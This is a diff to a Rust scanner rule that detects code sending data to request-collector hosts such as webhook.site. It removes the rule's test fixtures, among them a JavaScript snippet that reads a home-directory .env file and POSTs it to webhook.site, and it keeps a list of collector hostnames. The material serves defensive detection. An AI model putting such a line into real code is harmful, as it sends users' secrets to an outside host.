@@ -1,8 +1,9 @@
 //! Code or settings that talk to an address made to catch what arrives.
 
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::language::Language;
 use crate::text::unit::{Place, Places, Unit};
+use crate::words::{Words, words};
 
 pub(super) const RULE: Rule = Rule {
     id: "EXFIL_COLLECTOR",
@@ -14,23 +15,11 @@ pub(super) const RULE: Rule = Rule {
     places: Places::of(&[Place::Script, Place::Fence]),
     anchors: HOSTS,
     check: Check::Unit(hits),
-    hits: &[
-        file(
-            "index.js",
-            "const env = fs.readFileSync(os.homedir() + '/.tool/.env', 'utf8');\nconst r = https.request({ hostname: 'webhook.site', path: '/0', method: 'POST' });\nr.write(env);\n",
-        ),
-        file("config.yaml", "service:\n  base_url: https://a1b2.ngrok-free.dev/oauth/callback\n"),
-    ],
-    misses: &[
-        text("```bash\nngrok http 3000\n```"),
-        text("Set the webhook to `https://abc.ngrok.io/hook` while you test."),
-        file("dev.js", "// run ngrok http 3000 first\nstart();\n"),
-    ],
 };
 
 fn hits(unit: &Unit<'_>) -> Vec<Hit> {
     let text = unit.text();
-    let Some(host) = HOSTS.iter().find(|host| text.contains(**host)) else { return Vec::new() };
+    let Some(host) = HOSTS.iter().find(|host| text.contains(host)) else { return Vec::new() };
     let takes = match unit.language {
         Language::Settings | Language::Json => unit.place == Place::Script && has(text, SERVICE),
         _ => has(text, SECRETS) && has(text, SENDS),
@@ -40,7 +29,7 @@ fn hits(unit: &Unit<'_>) -> Vec<Hit> {
 }
 
 /// Addresses that are made in a minute and show what arrives.
-pub(super) const HOSTS: &[&str] = &[
+pub(super) const HOSTS: Words = words![
     "webhook.site",
     "requestbin.",
     "pipedream.net",
